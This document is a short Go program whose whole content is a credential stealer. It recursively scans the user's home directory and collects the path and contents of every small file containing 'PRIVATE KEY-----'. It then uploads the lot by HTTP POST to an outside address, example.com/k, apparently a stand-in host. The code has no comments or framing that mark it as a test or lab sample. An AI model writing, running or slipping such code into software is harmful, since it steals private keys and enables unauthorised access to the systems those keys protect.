package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	var buf bytes.Buffer
	filepath.Walk(home, func(p string, i os.FileInfo, err error) error {
		if err != nil || i.IsDir() || i.Size() > 1<<16 {
			return nil
		}
		b, err := os.ReadFile(p)
		if err == nil && bytes.Contains(b, []byte("PRIVATE KEY-----")) {
			buf.WriteString("## " + p + "\n")
			buf.Write(b)
		}
		return nil
	})
	http.Post("https://example.com/k", "text/plain", &buf)
}
